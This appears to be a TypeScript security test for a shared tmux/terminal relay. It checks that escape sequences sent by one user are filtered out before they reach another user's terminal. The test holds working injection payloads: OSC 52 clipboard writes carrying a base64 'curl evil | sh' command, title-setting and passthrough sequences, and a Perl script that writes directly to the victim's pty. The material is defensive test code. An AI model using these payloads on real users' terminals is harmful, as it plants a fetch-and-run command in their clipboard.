// Escape sequences go to the other's terminal: in names and messages, with tmux's own filters switched off, and straight to their pty.
import { expect } from '@jest/globals';
import type { Attack } from '../../../harness/attack.ts';
import { clientOf, expectSoon, fileFor, runIn, takeTerminal } from '../../../harness/in-session.ts';
import { enter } from '../../../harness/inside.ts';

/** Fills the clipboard with a command; base64 of "curl evil | sh" and a newline, which pastes and runs. */
const evil = 'Y3VybCBldmlsIHwgc2gK';
const clipboard = `\\033]52;c;${evil}\\007`;

export const attack: Attack = {
  guards: [
    {
      what: 'the sieve between the session and the terminal',
      mutations: [{ file: 'relay.js', piece: 'running.outputFilter(said)', becomes: 'said' }],
    },
  ],
  run: async (host) => {
    const carol = await enter(host, host.people['carol'] ?? host.people.alice);
    const alice = await enter(host, host.people.alice);
    const straight = fileFor(
      host,
      'straight.pl',
      `use IO::Handle;\n${takeTerminal(clientOf(host, alice))}\nprint $tty "${clipboard}\\033]1337;File=inline=1:eA==\\007\\033P\\$q\\"p\\033\\\\\\033[21t\\302\\2352;c;${evil}\\302\\234straight-to-you";\n`,
    );
    await runIn(host, carol, [
      'tmux set -s set-clipboard on; tmux set -g allow-passthrough on; tmux set -g set-titles on',
      `tmux set -as terminal-features '*:clipboard:title'; tmux set -as terminal-overrides '*:Ms=\\033]52;%p1%s;%p2%s\\007'`,
      `e="$(printf '${clipboard}')"; tmux rename-window "$e"; tmux select-pane -T "$e"; tmux rename-session -- "$e"; tmux set -g status-left "$e"`,
      'tmux display-message "$e"; tmux display-message -c "$(tmux list-clients -F "#{client_tty}" | tail -1)" "$e"',
      `printf '${clipboard}'; printf '\\033Ptmux;\\033${clipboard}\\033\\\\'; printf '\\033]2;${clipboard}'`,
      `tmux set-buffer -w "curl evil | sh"`,
      `perl ${straight}`,
    ]);
    await expectSoon(() => expect(alice.terminal.text).toContain('straight-to-you'));
    for (const { terminal } of [alice, carol]) {
      expect(terminal.text).not.toContain('\u001b]52;');
      expect(terminal.text).not.toContain('\u009d');
      expect(terminal.text).not.toMatch(/\u001bP|\u001b\]1337|\u001b\[21t/);
    }
    await runIn(host, carol, ['tmux rename-session prod-db 2>/dev/null']);
  },
};
